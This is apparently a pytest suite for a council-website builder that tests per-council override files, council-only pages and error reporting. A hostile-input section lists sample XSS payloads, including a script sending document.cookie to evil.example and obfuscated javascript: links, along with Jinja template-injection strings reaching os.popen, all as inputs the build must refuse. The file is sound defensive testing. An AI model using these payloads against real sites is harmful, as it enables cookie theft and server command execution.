"""Council override files and council-only pages, built end to end in small sites."""

from __future__ import annotations

import os
import re
from pathlib import Path

import pytest

from localgov.build import load_site
from localgov.cli import main
from localgov.compose import compose_variant
from localgov.errors import Problems
from tests.conftest import BuiltSite, MakeSite
from tests.helpers import read, tree_digest

BINS_OVERRIDE = "councils/maidstone/rubbish-and-recycling/bin-collections.md"


def build(root: Path, *args: str) -> int:
    return main(["--root", str(root), "build", *args])


def body_of(html: str) -> str:
    """Return the page body (the composed sections) of a variant."""
    return html[html.index('<div class="lg-body">'):html.index("</div>", html.index('<div class="lg-body">'))]


def headings(html: str) -> list[str]:
    return re.findall(r'<h2 class="govuk-heading-m" id="([^"]+)"', body_of(html))


def load_problems(root: Path) -> str:
    """Return every problem the load stage finds, one a line."""
    problems = Problems()
    load_site(root, problems)
    return "\n".join(p.format() for p in problems.items)


# -- each operation


def test_a_section_with_a_common_id_replaces_it_for_that_council_only(make_site: MakeSite) -> None:
    root = make_site({BINS_OVERRIDE: """
        ## What goes in each bin {#what-goes}

        In Maidstone, glass goes in the **black box**.
    """})
    assert build(root) == 0
    html = read(root / "build", "/bin-collections/maidstone/")
    assert "glass goes in the <strong>black box</strong>" in html
    assert "Paper and card" not in body_of(html)
    assert headings(html) == ["what-goes", "missed"]
    other = read(root / "build", "/bin-collections/tunbridge-wells/")
    assert "Paper and card" in other and "black box" not in other


def test_replace_list_and_remove(make_site: MakeSite) -> None:
    root = make_site({BINS_OVERRIDE: """
        ---
        replace: [what-goes]
        remove: [missed]
        ---
        ## What goes in each bin {#what-goes}

        Our own list.
    """})
    assert build(root) == 0
    html = read(root / "build", "/bin-collections/maidstone/")
    assert headings(html) == ["what-goes"]
    assert "Report a missed bin" not in html
    # One section left, so no contents list.
    assert 'aria-label="Contents"' not in html


def test_before_and_after_place_new_sections(make_site: MakeSite) -> None:
    root = make_site({BINS_OVERRIDE: """
        ---
        before: {missed: [bank-holidays, christmas]}
        after: {what-goes: "#garden"}
        ---
        ## Garden waste {#garden}

        Brown bins are emptied every 2 weeks.

        ## Bank holidays {#bank-holidays}

        Collections move by a day.

        ## Christmas {#christmas}

        Collections move by 2 days.
    """})
    assert build(root) == 0
    html = read(root / "build", "/bin-collections/maidstone/")
    assert headings(html) == ["what-goes", "garden", "bank-holidays", "christmas", "missed"]
    contents = html[html.index('aria-label="Contents"'):html.index("</nav>", html.index('aria-label="Contents"'))]
    assert re.findall(r'href="#([^"]+)"', contents) == ["what-goes", "garden", "bank-holidays", "christmas", "missed"]


def test_body_replace_replaces_the_whole_body(make_site: MakeSite) -> None:
    root = make_site({BINS_OVERRIDE: """
        ---
        body: replace
        ---
        {{ council.name }} collects bins on Tuesdays.

        ## Contact {#contact}

        Call {{ council.phone }}.
    """})
    assert build(root) == 0
    html = read(root / "build", "/bin-collections/maidstone/")
    assert "Maidstone Borough Council collects bins on Tuesdays." in html
    assert "every week or fortnight" not in html
    assert headings(html) == ["contact"]
    assert "Call 01622 602000." in html


def test_intro_text_replaces_the_common_intro(make_site: MakeSite) -> None:
    root = make_site({BINS_OVERRIDE: "Maidstone collects bins every week.\n"})
    assert build(root) == 0
    html = read(root / "build", "/bin-collections/maidstone/")
    assert "Maidstone collects bins every week." in html
    assert "every week or fortnight" not in html
    assert headings(html) == ["what-goes", "missed"]


def test_summary_and_keywords(make_site: MakeSite) -> None:
    root = make_site({BINS_OVERRIDE: """
        ---
        summary: Maidstone empties bins every week, food waste too.
        keywords: [food caddy, black box]
        ---
    """})
    assert build(root) == 0
    html = read(root / "build", "/bin-collections/maidstone/")
    assert '<meta name="description" content="Maidstone empties bins every week, food waste too.">' in html
    assert "Maidstone empties bins every week, food waste too.</p>" in html
    site = load_site(root, Problems())
    assert site is not None
    page = site.content.pages["bin-collections"]
    composed = compose_variant(page, "maidstone", site.overrides.for_variant("maidstone", "bin-collections"),
            nation="england")
    assert composed.keywords == ("bin day", "refuse", "food caddy", "black box")
    assert composed.sources == ("content/rubbish-and-recycling/bin-collections.md", BINS_OVERRIDE)
    other = read(root / "build", "/bin-collections/thanet/")
    assert "Maidstone empties" not in other and "black box" not in other
    # The council's own topic page shows its summary; other councils' pages do not.
    assert "Maidstone empties bins every week" in read(root / "build", "/rubbish-and-recycling/maidstone/")


def test_new_section_placed_nowhere_goes_last_with_a_warning(make_site: MakeSite,
                                                              capsys: pytest.CaptureFixture[str]) -> None:
    root = make_site({BINS_OVERRIDE: "## Missed collection {#misssed}\n\nCall us.\n"})
    assert build(root) == 0
    assert headings(read(root / "build", "/bin-collections/maidstone/")) == ["what-goes", "missed", "misssed"]
    err = capsys.readouterr().err
    assert (f"{BINS_OVERRIDE}:1: warning: section 'misssed' is not in rubbish-and-recycling/bin-collections, so it is"
            " added at the end; did you mean to replace 'missed'?") in err
    assert build(root, "--strict") == 1


def test_override_of_a_page_the_council_does_not_provide_is_reported(make_site: MakeSite) -> None:
    root = make_site({"councils/maidstone/schools/apply-for-a-school-place.md": "Our schools.\n"})
    messages = load_problems(root)
    assert ("councils/maidstone/schools/apply-for-a-school-place.md: warning: not used: 'apply-for-a-school-place'"
            " is provided by Kent County Council for addresses in Maidstone; expected a page Maidstone Borough"
            " Council provides") in messages


# -- mistakes, each reported where it is with the closest match


OVERRIDE_ERRORS: dict[str, tuple[str, str, str]] = {
    "unknown section in replace": (
        "councils/kent/schools/apply-for-a-school-place.md",
        "---\nsummary: Kent's own.\nreplace: [deadline]\n---\n## Deadlines {#deadlines}\n\nBy 31 October.\n",
        (r"councils/kent/schools/apply-for-a-school-place\.md:3: error: 'replace': no section 'deadline' in "
        r"schools/apply-for-a-school-place; did you mean 'deadlines'\?"),
    ),
    "unknown section in remove": (
        BINS_OVERRIDE, "---\nremove: [mised]\n---\n",
        (r"bin-collections\.md:2: error: 'remove': no section 'mised' in rubbish-and-recycling/bin-collections; "
        r"did you mean 'missed'\?"),
    ),
    "unknown anchor in after": (
        BINS_OVERRIDE, "---\nafter: {what-go: garden}\n---\n## Garden {#garden}\n\nx\n",
        (r"bin-collections\.md:2: error: 'after': no section 'what-go' in rubbish-and-recycling/bin-collections; "
        r"did you mean 'what-goes'\?"),
    ),
    "placed section missing from the file": (
        BINS_OVERRIDE, "---\nbefore: {missed: gardn}\n---\n## Garden {#garden}\n\nx\n",
        r"bin-collections\.md:2: error: 'before\.missed': this file has no section 'gardn'; did you mean 'garden'\?",
    ),
    "replace without the section": (
        BINS_OVERRIDE, "---\nreplace: [missed]\n---\nIntro only.\n",
        r"bin-collections\.md:2: error: 'replace': this file has no section 'missed' to put in its place",
    ),
    "removed and given": (
        BINS_OVERRIDE, "---\nremove: [missed]\n---\n## Missed {#missed}\n\nx\n",
        r"bin-collections\.md:2: error: 'remove': section 'missed' is both removed and given in this file",
    ),
    "unknown field": (
        BINS_OVERRIDE, "---\nsumary: x\n---\n",
        r"bin-collections\.md:2: error: 'sumary': unknown field; did you mean 'summary'\?",
    ),
    "title in an override": (
        BINS_OVERRIDE, "---\ntitle: Our bins\n---\n",
        (r"bin-collections\.md:2: error: 'title': an override cannot change 'title', which "
        r"content/rubbish-and-recycling/bin-collections\.md sets"),
    ),
    "body replace with remove": (
        BINS_OVERRIDE, "---\nbody: replace\nremove: [missed]\n---\nAll new.\n",
        r"bin-collections\.md:3: error: 'remove': 'body: replace' already replaces every section",
    ),
    "body with a wrong value": (
        BINS_OVERRIDE, "---\nbody: all\n---\nAll new.\n",
        r"bin-collections\.md:2: error: 'body': not a known value; expected 'replace'",
    ),
    "wrong topic folder": (
        "councils/maidstone/schools/bin-collections.md", "x\n",
        (r"councils/maidstone/schools/bin-collections\.md: error: the common page bin-collections is in the topic "
        r"'rubbish-and-recycling', not 'schools'; "
        r"expected councils/maidstone/rubbish-and-recycling/bin-collections\.md"),
    ),
    "misspelt page name": (
        "councils/maidstone/rubbish-and-recycling/bin-colections.md", "---\nreplace: [missed]\n---\n",
        (r"bin-colections\.md:2: error: 'replace': there is no common page 'bin-colections' to change; "
        r"did you mean 'bin-collections'\?"),
    ),
    "council-only page without a title": (
        "councils/maidstone/rubbish-and-recycling/bin-collection-days.md", "Tuesdays.\n",
        (r"bin-collection-days\.md:1: error: 'title': there is no common page 'bin-collection-days'; did you mean "
        r"'bin-collections'\?, so this file is a council-only page and needs a title"),
    ),
    "file outside a topic folder": (
        "councils/maidstone/bin-collections.md", "x\n",
        (r"councils/maidstone/bin-collections\.md: error: council files go in a topic folder, like the common pages; "
        r"expected councils/maidstone/rubbish-and-recycling/bin-collections\.md"),
    ),
    "level 1 heading": (
        BINS_OVERRIDE, "---\nsummary: x\n---\n# Bins\n",
        r"bin-collections\.md:4: error: the page title is the only level 1 heading",
    ),
    "duplicate section ids": (
        BINS_OVERRIDE, "## A {#a}\n\nx\n\n## B {#a}\n\ny\n",
        r"bin-collections\.md:\d: error: two sections have the id 'a'",
    ),
    "unknown link key": (
        BINS_OVERRIDE, "Book: {{ council.link('bulky-wast', 'Book') }}\n",
        r"bin-collections\.md:1: error: council\.link\(\): no page or LGSL code 'bulky-wast'",
    ),
    "unknown council data": (
        BINS_OVERRIDE, "Call {{ council.phon }}.\n",
        r"bin-collections\.md:1: error: council has no 'phon'; did you mean 'phone'\?",
    ),
    "bad front matter": (
        BINS_OVERRIDE, "---\nsummary: [unclosed\n---\n",
        r"bin-collections\.md:3: error: invalid YAML",
    ),
}


@pytest.mark.parametrize("case", sorted(OVERRIDE_ERRORS))
def test_override_mistakes_are_reported_precisely(case: str, make_site: MakeSite) -> None:
    path, text, pattern = OVERRIDE_ERRORS[case]
    root = make_site({path: text})
    messages = load_problems(root)
    assert re.search(pattern, messages), messages


# -- council-only pages

BEACH_HUTS = """
    ---
    title: Beach huts
    summary: Hire a beach hut on the Thanet coast.
    keywords: [beach hut, chalet]
    ---
    {{ council.name }} rents beach huts by the week.

    ## Prices {#prices}

    Prices depend on the season. {{ council.link('beach-huts', 'Book a beach hut') }}
"""


def test_council_only_page_is_rendered_and_listed_for_its_council(make_site: MakeSite) -> None:
    root = make_site({
        "councils/thanet/rubbish-and-recycling/beach-huts.md": BEACH_HUTS,
        "councils/thanet/council.yaml": """
            name: Thanet District Council
            short_name: Thanet
            gss: E07000114
            type: non-metropolitan-district
            nation: england
            parent: kent
            website: https://www.thanet.gov.uk/
            features: [coastline]
            links:
              beach-huts: https://www.thanet.gov.uk/beach-huts
        """,
    })
    assert build(root, "--strict") == 0
    out = root / "build"
    html = read(out, "/beach-huts/thanet/")
    assert "<h1 class=\"govuk-heading-xl\">Beach huts</h1>" in html
    assert "Thanet District Council rents beach huts by the week." in html
    assert ('<a class="govuk-link" href="https://www.thanet.gov.uk/beach-huts">Book a beach hut'
            '<span class="govuk-visually-hidden"> on the Thanet District Council website</span></a>') in html
    assert '<link rel="canonical" href="https://test.example/beach-huts/thanet/">' in html
    assert "This page is only about Thanet District Council." in html
    assert 'href="/beach-huts/thanet/"' in read(out, "/councils/thanet/")
    assert 'href="/beach-huts/thanet/"' in read(out, "/rubbish-and-recycling/thanet/")
    assert "beach-huts" not in read(out, "/councils/maidstone/")
    assert "beach-huts" not in read(out, "/rubbish-and-recycling/maidstone/")
    assert not (out / "beach-huts" / "index.html").exists()
    assert "beach-huts/thanet/" in read(out, "/sitemap.xml")


@pytest.mark.parametrize(("path", "pattern"), [
    ("councils/thanet/schools/schools.md", r"schools\.md: error: 'schools' is a topic"),
    ("councils/thanet/rubbish-and-recycling/search.md", r"search\.md: error: file name is not a usable page slug"),
    ("councils/thanet/beaches/beach-huts.md", r"beach-huts\.md: error: no topic 'beaches' in content/"),
])
def test_council_only_page_names_that_cannot_be_used(path: str, pattern: str, make_site: MakeSite) -> None:
    root = make_site({path: BEACH_HUTS})
    assert re.search(pattern, load_problems(root))


# -- features


BEACH_SAFETY = """
    ---
    title: Beach safety
    summary: Stay safe at the beach.
    provider: lower
    requires: [coastline]
    ---
    {{ council.name }} looks after its beaches.
"""


def test_page_that_requires_a_feature_has_variants_only_where_councils_have_it(make_site: MakeSite) -> None:
    root = make_site({
        "content/rubbish-and-recycling/beach-safety.md": BEACH_SAFETY,
        "councils/maidstone/rubbish-and-recycling/beach-safety.md": "Maidstone has no beach.\n",
    })
    assert build(root) == 0
    out = root / "build"
    variants = sorted(p.parent.name for p in (out / "beach-safety").glob("*/index.html"))
    assert variants == ["thanet"]  # the only lower-tier council with a coastline
    assert "Thanet District Council looks after its beaches." in read(out, "/beach-safety/thanet/")
    assert "/beach-safety/thanet/" in read(out, "/councils/thanet/")
    assert "beach-safety" not in read(out, "/councils/maidstone/")
    assert ("councils/maidstone/rubbish-and-recycling/beach-safety.md: warning: not used: Maidstone Borough Council"
            " does not provide 'beach-safety', which needs the feature coastline in councils/maidstone/council.yaml"
            ) in load_problems(root)


# -- hostile files: refused with a clear error; --keep-going builds everything else


HOSTILE: dict[str, tuple[str, str]] = {
    "script": (
        "Fine text.\n\n<script>document.location='https://evil.example/'+document.cookie</script>\n",
        r"bin-collections\.md:3: error: unsafe HTML: <script> is not allowed; the file is not used",
    ),
    "event handler": (
        'A picture: <img src="x.png" onerror="alert(1)">\n',
        r"bin-collections\.md:1: error: unsafe HTML: the attribute onerror on <img> is not allowed",
    ),
    "javascript link": (
        "[Pay now](javascript:alert(document.cookie))\n",
        r"bin-collections\.md:1: error: unsafe HTML: a javascript: address is not allowed",
    ),
    "disguised javascript link": (
        'Pay here:\n\n<a href="jav&#x09;ascript&colon;alert(1)">Pay</a>\n',
        r"bin-collections\.md:3: error: unsafe HTML: a javascript: address is not allowed",
    ),
    "iframe": (
        '<iframe src="https://evil.example/"></iframe>\n',
        r"bin-collections\.md:1: error: unsafe HTML: <iframe> is not allowed",
    ),
    "jinja reaching for __class__": (
        "Intro\n\n{{ council.__class__.__init__.__globals__ }}\n",
        r"bin-collections\.md:3: error: '__class__' is not available in content",
    ),
    "jinja on a string": (
        "{{ ''.__class__.__mro__[1].__subclasses__() }}\n",
        r"bin-collections\.md:1: error: '__class__' is not available in content",
    ),
    "jinja globals": (
        "{{ cycler.__init__.__globals__.os.popen('id').read() }}\n",
        r"bin-collections\.md:1: error: unknown name 'cycler' in content",
    ),
    "jinja item lookup": (
        "{{ council['_council'] }}\n",
        r"bin-collections\.md:1: error: '_council' is not available in content",
    ),
    "jinja text of its own": (
        '<a href="{{ \'javascript:alert(1)\' }}">Pay</a>\n',
        r"bin-collections\.md:1: error: council files can only show council data in \{\{ \}\}",
    ),
    "jinja loop": (
        "{% for c in council.name %}{% for d in council.name %}x{% endfor %}{% endfor %}\n",
        r"bin-collections\.md:1: error: council files can only use \{% if %\} tags",
    ),
    "jinja that fails for its council": (
        "Intro\n\n{% if council.name > 3 %}Soon.{% endif %}\n",
        r"bin-collections\.md:1: error: cannot be rendered for maidstone: TypeError: '>' not supported between"
        r" instances of 'str' and 'int'",
    ),
}


KENT_OVERRIDE = {"councils/kent/schools/apply-for-a-school-place.md": "## Deadlines {#deadlines}\n\nKent's dates.\n"}


def hostile_site(make_site: MakeSite, text: str) -> Path:
    return make_site({BINS_OVERRIDE: text, **KENT_OVERRIDE})


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_hostile_file_is_refused_and_the_rest_of_the_site_still_builds(
    case: str, make_site: MakeSite, built_sites: BuiltSite, capsys: pytest.CaptureFixture[str]
) -> None:
    text, pattern = HOSTILE[case]
    root = hostile_site(make_site, text)
    out = root / "build"
    # A plain build refuses the file: exit 1, the message says where, nothing is written.
    assert build(root) == 1
    err = capsys.readouterr().err
    assert re.search(pattern, err), err
    assert "nothing was written" in err and "Traceback" not in err
    assert not out.exists()
    # --keep-going builds everything else, still exits 1 and names the refused file.
    assert build(root, "--keep-going") == 1
    err = capsys.readouterr().err
    assert re.search(pattern, err), err
    assert f"built without 1 refused council file ({BINS_OVERRIDE})" in err
    # Every page is what it would be without the refused file; only the report says it was refused.
    clean = built_sites(KENT_OVERRIDE)  # the same site without the file, built once for every case
    with_file = {k: v for k, v in tree_digest(out).items() if not k.startswith(("status/", "pagefind/"))}
    without = {k: v for k, v in tree_digest(clean / "build").items() if not k.startswith(("status/", "pagefind/"))}
    assert with_file == without
    # Kent's override, in the same build, is used.
    assert "Kent's dates." in read(out, "/apply-for-a-school-place/kent/")
    for page in out.rglob("*.html"):
        html = page.read_text(encoding="utf-8").lower()
        assert 'href="javascript' not in html and " onerror=" not in html and "<iframe" not in html, page
        assert "evil.example/'" not in html, page
        if not page.relative_to(out).as_posix().startswith("status/"):
            # The status pages quote the refused text in their problem list, escaped; no other page has it.
            assert "javascript:" not in html and "onerror" not in html and "__globals__" not in html, page
    status = read(out, "/status/maidstone/")
    assert BINS_OVERRIDE in status and "refused" in status


def test_links_out_of_the_council_folder_are_refused(make_site: MakeSite, tmp_path: Path,
                                                     capsys: pytest.CaptureFixture[str]) -> None:
    secret = tmp_path / "secret.md"
    secret.write_text("## What goes in each bin {#what-goes}\n\nSECRET\n", encoding="utf-8")
    root = make_site()
    topic = root / "councils" / "maidstone" / "rubbish-and-recycling"
    topic.mkdir(parents=True)
    os.symlink(secret, topic / "bin-collections.md")
    # A whole topic folder that is a link to another council's folder, by a ../ path.
    (root / "councils" / "medway" / "rubbish-and-recycling").symlink_to(Path("../maidstone/rubbish-and-recycling"))
    assert build(root) == 1
    err = capsys.readouterr().err
    assert ("councils/maidstone/rubbish-and-recycling/bin-collections.md: error: is a link to a place outside"
            " councils/maidstone/; council files must be in the council's own folder") in err
    assert ("councils/medway/rubbish-and-recycling: error: is a link to a place outside councils/medway/;"
            " council files must be in the council's own folder") in err
    assert build(root, "--keep-going") == 1
    out = root / "build"
    assert "SECRET" not in read(out, "/bin-collections/maidstone/")
    assert "SECRET" not in read(out, "/bin-collections/medway/")
    assert "Paper and card" in read(out, "/bin-collections/medway/")


def test_a_link_to_a_council_page_that_cannot_be_rendered_is_refused_too(make_site: MakeSite) -> None:
    root = make_site({
        "councils/maidstone/rubbish-and-recycling/garden-waste.md":
            "---\ntitle: Garden waste\nsummary: Brown bins.\n---\n{% if council.name > 3 %}Soon.{% endif %}\n",
        BINS_OVERRIDE: "## Missed collections {#missed}\n\n{{ council.link('garden-waste', 'Garden waste') }}\n",
    })
    problems = Problems()
    site = load_site(root, problems, keep_going=True)
    assert [p.format() for p in problems.items] == [
        "councils/maidstone/rubbish-and-recycling/garden-waste.md:5: error: cannot be rendered for maidstone:"
        " TypeError: '>' not supported between instances of 'str' and 'int'",
        f"{BINS_OVERRIDE}:3: error: council.link(): no page or LGSL code 'garden-waste'; expected a page slug from"
        " content/ or a page's LGSL code, got 'garden-waste'",
    ]
    assert site is not None and not site.overrides.overrides and not site.overrides.pages
    assert site.overrides.refused_files == ("councils/maidstone/rubbish-and-recycling/bin-collections.md",
                                            "councils/maidstone/rubbish-and-recycling/garden-waste.md")


def test_unsupported_html_is_removed_with_a_warning(make_site: MakeSite, capsys: pytest.CaptureFixture[str]) -> None:
    root = make_site({BINS_OVERRIDE: """
        ## What goes in each bin {#what-goes}

        <p style="color: red">Glass in the <font>box</font>.</p>

        See [our calendar](calendar.html).
    """})
    assert build(root) == 0
    err = capsys.readouterr().err
    assert f"{BINS_OVERRIDE}:3: warning: HTML: the attribute style on <p> is not supported and was removed" in err
    assert f"{BINS_OVERRIDE}:3: warning: HTML: <font> is not supported and was removed" in err
    assert f"{BINS_OVERRIDE}:5: warning: a relative link will not work on this site" in err
    html = body_of(read(root / "build", "/bin-collections/maidstone/"))
    assert "Glass in the box." in html
    assert "style=" not in html and "<font" not in html


def test_council_data_in_an_override_is_escaped(make_site: MakeSite) -> None:
    root = make_site({
        BINS_OVERRIDE: "Call {{ council.phone }} or visit {{ council.address }}.\n",
        "councils/maidstone/council.yaml": """
            name: Maidstone Borough Council
            gss: E07000110
            type: non-metropolitan-district
            nation: england
            parent: kent
            website: https://www.maidstone.gov.uk/
            contact:
              phone: "<script>alert(1)</script>"
              address: King Street & High Street
        """,
    })
    assert build(root) == 0
    html = read(root / "build", "/bin-collections/maidstone/")
    assert "<script>alert(1)" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "King Street &amp; High Street" in html


# -- one council's edit touches only that council's pages


def test_editing_one_override_changes_only_that_councils_pages(make_site: MakeSite) -> None:
    root = make_site({
        "councils/kent/schools/apply-for-a-school-place.md": "---\nsummary: Kent's version.\n---\n"
                                                             "## Deadlines {#deadlines}\n\nApply by 31 October.\n",
        BINS_OVERRIDE: "## Missed collections {#missed}\n\nCall Maidstone.\n",
    })
    assert build(root) == 0
    before = tree_digest(root / "build")
    make_site({"councils/kent/schools/apply-for-a-school-place.md":
               "---\nsummary: Kent's new version.\n---\n## Deadlines {#deadlines}\n\nApply by 1 November.\n"})
    assert build(root) == 0
    after = tree_digest(root / "build")
    changed = {path for path in before.keys() | after.keys() if before.get(path) != after.get(path)}
    # The search index is rebuilt from the pages, so its files change with any page.
    changed = {path for path in changed if not path.startswith("pagefind/")}
    assert "apply-for-a-school-place/kent/index.html" in changed
    assert changed <= {
        "apply-for-a-school-place/kent/index.html",  # the variant
        "schools/kent/index.html",  # Kent's own topic page shows its summary
        "status/kent/index.html",
        "status/coverage.json",
        "status/index.html",
        "search/words.json",  # the site's words, for spelling in search: the override brings "november"
    }, changed
    assert "Apply by 1 November." in read(root / "build", "/apply-for-a-school-place/kent/")
